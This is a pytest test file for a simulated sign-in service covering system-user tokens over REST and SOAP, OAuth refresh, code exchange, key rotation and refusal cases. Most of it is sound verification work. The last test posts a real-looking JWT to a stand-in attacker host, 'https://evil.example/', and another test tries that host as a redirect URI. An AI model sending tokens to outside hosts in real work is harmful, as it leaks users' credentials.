"""The embedded sign-in host: it really verifies what it is sent, over REST, SOAP and OAuth."""

import json
from base64 import b64encode
from datetime import timedelta
from typing import Any

import pytest

from soapbatch import AuthenticationFailed, SystemUserRefused, TokenNotTrusted, UsageError
from soapbatch.online import (
    OAuthTokens,
    build_refresh_request,
    build_system_user_request,
    build_system_user_soap_request,
    parse_token_response,
    verify_system_token,
)
from soapbatch.testing import generate_private_key
from tests.support.online import NOW, TENANT, VECTORS, World, app_key, read_vector, signing_key, world

REDIRECT = "https://app.example/callback"


@pytest.mark.parametrize("soap", [False, True])
@pytest.mark.parametrize("names", [(), ("kid",), ("x5t",), ("kid", "x5t")])
async def test_a_system_user_signs_in(soap: bool, names: tuple[str, ...]) -> None:  # noqa: FBT001
    """With a ticket that the tenant takes, whatever the header of the JWT names."""
    async with world() as here:
        here.online.sign_in.key_names = names
        ticket = await here.ticket(soap=soap)
        assert await here.outcome(ticket) == ""
        assert here.tenant.server.calls[-1].outcome == "succeeded"


async def test_the_claims_are_those_of_the_vectors() -> None:
    """By name and type."""
    async with world() as here:
        import jwt  # noqa: PLC0415 - to look at a payload

        payload = jwt.decode((await here.jwt()).reveal(), options={"verify_signature": False})
        expected = read_vector("system_user_claims.json")
        left_out = {f"http://schemes.superoffice.net/identity/{name}" for name in ("upn", "initials")}
        assert payload.keys() == expected.keys() - left_out
        assert {name: type(value) for name, value in payload.items()}.items() <= {
            name: type(value) for name, value in expected.items()
        }.items()
        assert (payload["iat"], payload["nbf"], payload["exp"]) == ("1767323095", 1767323035, 1767323395)


@pytest.mark.parametrize("soap", [False, True])
@pytest.mark.parametrize("status", [200, 401])
@pytest.mark.parametrize(
    ("changes", "outcome", "reason"),
    [
        ({"application_token": "wrong"}, "unknown application token", None),
        ({"tenant": "Cust99999"}, "unknown tenant", None),
        ({"signed": "My App"}, "InvalidSignature", "InvalidSignature"),
        ({"signed": "My App.202601020304.***"}, "InvalidSignature", "InvalidSignature"),
        ({"signed": "My App.202601020304.c2ln"}, "InvalidSignature", "InvalidSignature"),
        ({"signed": read_vector("signed_tokens.json")[0]["signed_token"]}, "Denied", "Denied"),
    ],
)
async def test_what_is_refused(
    soap: bool,  # noqa: FBT001
    status: int,
    changes: dict[str, str],
    outcome: str,
    reason: str | None,
) -> None:
    """With the reason in the journal, and in the text where it is a documented one."""
    async with world() as here:
        here.online.sign_in.refusal_status = status
        with pytest.raises(SystemUserRefused) as raising:
            await here.jwt(soap=soap, **changes)
        assert raising.value.reason == reason
        assert raising.value.status == (200 if soap else status)
        assert here.online.journal[-1].outcome == outcome


@pytest.mark.parametrize(
    ("minutes", "is_valid"), [(0, True), (-4, True), (5, True), (-5, False), (6, False), (-60, False)]
)
async def test_a_stamp_must_be_fresh(minutes: int, is_valid: bool) -> None:  # noqa: FBT001
    """Within five minutes of Online's clock; its own seconds count."""
    async with world() as here:
        signed = here.signed(at=NOW + timedelta(minutes=minutes))
        if is_valid:
            await here.jwt(signed=signed)
        else:
            with pytest.raises(SystemUserRefused, match="check this machine's clock"):
                await here.jwt(signed=signed)
            assert here.online.journal[-1].outcome == "InvalidTimestamp"


async def test_a_stamp_must_be_one() -> None:
    """It is signed well, and no date."""
    async with world() as here:
        signs = f"{here.token}.202699999999"
        signature = b64encode(here.app.private_key.sign(signs.encode())).decode()
        with pytest.raises(SystemUserRefused, match="InvalidTimestamp"):
            await here.jwt(signed=f"{signs}.{signature}")


async def test_another_key_is_refused() -> None:
    """Whoever knows the token alone cannot sign in."""
    async with world() as here:
        stranger = generate_private_key()
        assert stranger.bits == 2048
        with pytest.raises(SystemUserRefused, match="check private_key"):
            await here.jwt(signed=here.signed(key=stranger))


async def test_a_clock_that_is_off_is_named() -> None:
    """Online's clock is ten minutes ahead: the stamp is refused, and later the JWT."""
    async with world() as here:
        jwt = await here.jwt()
        here.online.skew(600)
        with pytest.raises(SystemUserRefused, match="this machine's clock is 600 s behind the server's"):
            await here.jwt()
        late = here.now() + timedelta(seconds=601)
        with pytest.raises(TokenNotTrusted, match="it ended 301 s ago"):
            verify_system_token(jwt, await here.key_set(), tenant=TENANT, now=late)


@pytest.mark.parametrize("reason", ["Revoked", "Denied", "NeedsReapproval", "Expired"])
async def test_access_is_revoked_and_given_again(reason: str) -> None:
    """The ticket goes on, and the system user token stays the same."""
    async with world() as here:
        ticket = await here.ticket()
        refresh_token = here.online.issue_refresh_token(here.app, here.tenant)
        other = here.online.add_tenant("Cust2")
        here.online.issue_refresh_token(here.app, other)
        here.online.revoke(here.app, here.tenant, reason)
        with pytest.raises(SystemUserRefused) as raising:
            await here.jwt()
        assert raising.value.reason == reason
        with pytest.raises(AuthenticationFailed, match="revoked or was never valid"):
            await refresh(here, refresh_token)
        assert await here.outcome(ticket) == ""
        assert here.online.approve(here.app, here.tenant) == here.token
        assert await here.ticket() != ticket
        with pytest.raises(UsageError, match="the documented reasons are Revoked, "):
            here.online.revoke(here.app, here.tenant, "Weather")


async def test_an_app_without_approval_is_denied() -> None:
    """Its key and its secret are right."""
    async with world() as here:
        app = here.online.add_app("Other")
        signed = here.signed(key=app.private_key)
        with pytest.raises(SystemUserRefused, match="denied the app's access"):
            await here.jwt(signed=signed, application_token=app.client_secret)


@pytest.mark.parametrize("overlap", [False, True])
async def test_keys_rotate(overlap: bool) -> None:  # noqa: FBT001
    """With an overlap the old key stays in the set; the JWT of a new one needs a new set."""
    async with world() as here:
        old_jwt, old_keys = await here.jwt(), await here.key_set()
        here.online.rotate_keys(overlap=overlap)
        new_jwt, new_keys = await here.jwt(), await here.key_set()
        assert len(new_keys["keys"]) == 1 + overlap
        with pytest.raises(TokenNotTrusted) as raising:
            verify_system_token(new_jwt, old_keys, tenant=TENANT, now=NOW)
        assert raising.value.check == "key"
        verify_system_token(new_jwt, new_keys, tenant=TENANT, now=NOW)
        if overlap:
            verify_system_token(old_jwt, new_keys, tenant=TENANT, now=NOW)


async def test_the_discovery_document_is_that_of_the_vectors() -> None:
    """But for the response modes, which nobody here needs."""
    async with world() as here:
        expected = read_vector("openid-configuration.json")
        del expected["response_modes_supported"]
        response = await here.http.get(f"{here.online.environment.url}/login/.well-known/openid-configuration")
        assert response.json() == expected


@pytest.mark.parametrize("path", ["/LOGIN/.well-known/JWKS", "/login/.well-known/jwks"])
async def test_paths_are_read_in_any_case(path: str) -> None:
    """IIS does not mind."""
    async with world() as here:
        url = here.online.environment.url
        assert (await here.http.get(url + path)).json() == {"keys": [signing_key().jwk]}
        assert (await here.http.post(url + path)).status_code == 405
        assert (await here.http.get(here.online.environment.tokens_url)).headers["allow"] == "POST"


@pytest.mark.parametrize(
    ("headers", "body", "status"),
    [
        ({"Content-Type": "text/plain"}, b"{}", 415),
        ({}, b"{}", 415),
        ({"Content-Type": "application/json;charset=UTF-8"}, b"{}", 400),
        ({"Content-Type": "application/json"}, b"", 400),
        ({"Content-Type": "application/json"}, b"[1]", 400),
        ({"Content-Type": "application/json"}, b'"text"', 400),
        ({"Content-Type": "application/json"}, b'{"SignedSystemToken": "x"}', 400),
    ],
)
async def test_requests_that_cannot_be_read(headers: dict[str, str], body: bytes, status: int) -> None:
    """The text of a failure is REST's."""
    async with world() as here:
        response = await here.http.post(here.online.environment.system_user_url, headers=headers, content=body)
        assert response.status_code == status
        if status == 400:
            assert response.json()["Error"] is True


async def test_another_type_of_token_is_refused() -> None:
    """SAML is deprecated, and `Jwt` is how SOAP writes it."""
    async with world() as here:
        environment = here.online.environment
        arguments: dict[str, Any] = {"tenant": TENANT, "application_token": here.app.client_secret}
        for build, old, new in [
            (build_system_user_request, b'"JWT"', b'"Jwt"'),
            (build_system_user_soap_request, b">Jwt<", b">Saml<"),
        ]:
            request = build(environment, here.signed(), **arguments)
            body = request.body.replace(old, new)
            response = await here.http.post(request.url, headers=dict(request.headers), content=body)
            assert "The token type is not supported" in response.text


@pytest.mark.parametrize("values", [{"SignedSystemToken": None}, {"ContextIdentifier": 5}, {"ApplicationToken": ["x"]}])
async def test_values_of_other_types_are_refused(values: dict[str, object]) -> None:
    """And do not break the server."""
    async with world() as here:
        body = {
            "SignedSystemToken": here.signed(),
            "ApplicationToken": here.app.client_secret,
            "ContextIdentifier": TENANT,
            "ReturnTokenType": "JWT",
        }
        response = await here.http.post(here.online.environment.system_user_url, json=body | values)
        assert response.json()["IsSuccessful"] is False


SOAP_REQUEST = (VECTORS / "soap_request.xml").read_bytes()


@pytest.mark.parametrize(
    ("changes", "body", "status", "text"),
    [
        ({"Content-Type": "application/soap+xml"}, SOAP_REQUEST, 415, ""),
        ({"SOAPAction": '"other"'}, SOAP_REQUEST, 500, "ActionNotSupported"),
        ({}, b"", 500, "DeserializationFailed"),
        ({}, b"<a/>", 500, "DeserializationFailed"),
        ({}, SOAP_REQUEST.replace(b"AuthenticationRequest", b"Other"), 500, "DeserializationFailed"),
        ({}, SOAP_REQUEST, 200, "The application token is not known"),
    ],
)
async def test_soap_is_1_1_with_an_action(changes: dict[str, str], body: bytes, status: int, text: str) -> None:
    """What cannot be read is a fault."""
    async with world() as here:
        request = build_system_user_soap_request(here.online.environment, "x", tenant=TENANT, application_token="x")
        response = await here.http.post(request.url, headers={**request.headers, **changes}, content=body)
        assert response.status_code == status
        assert text in response.text


async def test_soap_responses_have_the_bytes_of_the_vectors() -> None:
    """Of a refusal, but for its text; and of a success, but for its JWT."""
    async with world() as here:
        request = build_system_user_soap_request(
            here.online.environment, here.signed(), tenant=TENANT, application_token=here.app.client_secret
        )
        response = await here.send(request)
        jwt = response.text.partition("<Token>")[2].partition("</Token>")[0]
        expected = (VECTORS / "soap_response_ok.xml").read_text(encoding="utf-8")
        assert response.text.replace(jwt, read_vector("rest_response_ok.json")["Token"]) == expected
        response = await here.http.post(request.url, headers=dict(request.headers), content=SOAP_REQUEST)
        expected = (VECTORS / "soap_response_failed.xml").read_text(encoding="utf-8")
        text = "The application token is not known"
        assert response.text.replace(text, "Calculated signature is invalid") == expected


async def refresh(here: World, token: str, **changes: str) -> OAuthTokens:
    """Renew an access token, or raise."""
    arguments = {"client_id": here.app.client_id, "client_secret": here.app.client_secret} | changes
    request = build_refresh_request(here.online.environment, refresh_token=token, **arguments)
    response = await here.send(request)
    return parse_token_response(response.status_code, response.headers, response.content, now=here.now())


async def test_a_refresh_brings_an_access_token_that_ends() -> None:
    """The tenant takes the token in a ticket's place, for an hour. The refresh token stays."""
    async with world() as here:
        value = here.online.issue_refresh_token(here.app, here.tenant)
        tokens = await refresh(here, value)
        assert (tokens.refresh_token, tokens.expires_in) == (None, 3600)
        assert here.online.journal[-1].secrets == {"client secret of My App", "refresh token 1 of Cust12345"}
        access_token = tokens.access_token.reveal()
        here.clock.advance(3599)
        assert await here.outcome(access_token) == ""
        assert "access token 1 of Cust12345" in here.online.journal[-1].secrets
        here.clock.advance(1)
        assert await here.outcome(access_token) == "SoSessionException"
        assert await here.outcome((await refresh(here, value)).access_token.reveal()) == ""


async def test_a_refresh_may_renew_the_refresh_token() -> None:
    """Then the old one is gone."""
    async with world() as here:
        here.online.sign_in.renews_refresh_tokens = True
        here.online.sign_in.token_lifetime = 1200
        value = here.online.issue_refresh_token(here.app, here.tenant)
        tokens = await refresh(here, value)
        assert tokens.refresh_token is not None
        assert tokens.renew_after == 960
        with pytest.raises(AuthenticationFailed, match="invalid_grant The grant is not valid"):
            await refresh(here, value)
        assert (await refresh(here, tokens.refresh_token.reveal())).refresh_token is not None


async def test_a_client_must_be_the_right_one() -> None:
    """Of an app, and of the app that the refresh token belongs to."""
    async with world() as here:
        value = here.online.issue_refresh_token(here.app, here.tenant)
        other = here.online.add_app("Other", private_key=app_key())
        for changes in ({"client_id": "wrong"}, {"client_secret": "wrong"}, {"client_id": other.client_id}):
            with pytest.raises(AuthenticationFailed, match="invalid_client; check client_id"):
                await refresh(here, value, **changes)
        with pytest.raises(AuthenticationFailed, match="invalid_grant"):
            await refresh(here, value, client_id=other.client_id, client_secret=other.client_secret)


@pytest.mark.parametrize("basic", [False, True])
async def test_a_code_brings_all_tokens_once(basic: bool) -> None:  # noqa: FBT001
    """Within ten minutes, with the redirect_uri that it was made for."""
    async with world() as here:

        async def exchange(code: str, **changes: str) -> dict[str, Any]:
            form = {"grant_type": "authorization_code", "code": code, "redirect_uri": REDIRECT}
            headers = {}
            if basic:
                credentials = f"{here.app.client_id}:{here.app.client_secret}".encode()
                headers = {"Authorization": f"Basic {b64encode(credentials).decode()}"}
            else:
                form |= {"client_id": here.app.client_id, "client_secret": here.app.client_secret}
            response = await here.http.post(here.online.environment.tokens_url, data=form | changes, headers=headers)
            answer: dict[str, Any] = response.json()
            return answer

        code = here.online.issue_code(here.app, here.tenant, REDIRECT)
        assert (await exchange(code, redirect_uri="https://evil.example"))["error"] == "invalid_grant"
        assert (await exchange(code, grant_type="refresh_token"))["error"] == "invalid_grant"
        assert (await exchange(code, grant_type="client_credentials"))["error"] == "unsupported_grant_type"
        answer = await exchange(code)
        assert answer.keys() == read_vector("oauth_code_response.json").keys()
        assert (await exchange(code))["error"] == "invalid_grant"
        assert (await refresh(here, answer["refresh_token"])).expires_in == 3600
        import jwt  # noqa: PLC0415 - to look at a payload

        claims = jwt.decode(answer["id_token"], options={"verify_signature": False})
        assert claims["http://schemes.superoffice.net/identity/system_token"] == here.token
        assert (claims["aud"], claims["iss"]) == (here.app.client_id, "https://sod.superoffice.com")
        late = here.online.issue_code(here.app, here.tenant, REDIRECT)
        here.clock.advance(600)
        assert (await exchange(late))["error"] == "invalid_grant"


async def test_an_id_token_of_a_tenant_without_approval_has_no_system_token() -> None:
    """It comes with the approval of an administrator."""
    async with world() as here:
        app = here.online.add_app("Other", private_key=app_key())
        value = here.online.issue_refresh_token(app, here.tenant)
        request = build_refresh_request(
            here.online.environment, client_id=app.client_id, client_secret=app.client_secret, refresh_token=value
        )
        import jwt  # noqa: PLC0415 - to look at a payload

        response = await here.send(request)
        claims = jwt.decode(response.json()["id_token"], options={"verify_signature": False})
        assert "http://schemes.superoffice.net/identity/system_token" not in claims


@pytest.mark.parametrize("header", ["Basic ***", "Basic /w==", "Bearer x"])
async def test_credentials_that_cannot_be_read(header: str) -> None:
    """They are those of no client."""
    async with world() as here:
        response = await here.http.post(here.online.environment.tokens_url, headers={"Authorization": header})
        assert (response.status_code, response.json()) == (401, {"error": "invalid_client"})


async def test_a_jwt_is_no_secret_of_the_journal() -> None:
    """A JWT is sent to nobody but the client: no name is kept for it."""
    async with world() as here:
        jwt = await here.jwt()
        await here.http.post("https://evil.example/", content=json.dumps({"jwt": jwt.reveal()}))
        assert here.online.journal[-1].secrets == set()
